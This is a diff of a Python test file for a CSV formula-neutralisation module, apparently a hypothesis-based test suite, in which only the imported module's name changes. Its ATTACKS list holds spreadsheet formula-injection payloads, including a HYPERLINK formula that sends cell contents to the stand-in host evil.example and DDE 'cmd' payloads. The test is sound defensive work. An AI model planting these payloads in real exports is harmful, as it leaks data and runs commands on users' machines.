@@ -1,4 +1,4 @@
-"""CSV formula neutralisation (ops_api.csv_safe): what a spreadsheet would run gets a quote, through
+"""CSV formula neutralisation (cityops.csv_safe): what a spreadsheet would run gets a quote, through
 the csv module and back, and nothing else changes."""
 
 import csv
@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ops_api.csv_safe import TRIGGERS, neutralise, safe_cell, safe_row
+from cityops.csv_safe import TRIGGERS, neutralise, safe_cell, safe_row
 
 ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1dHYPERLINK(1)", "\n=1", "-", "=", "@"]
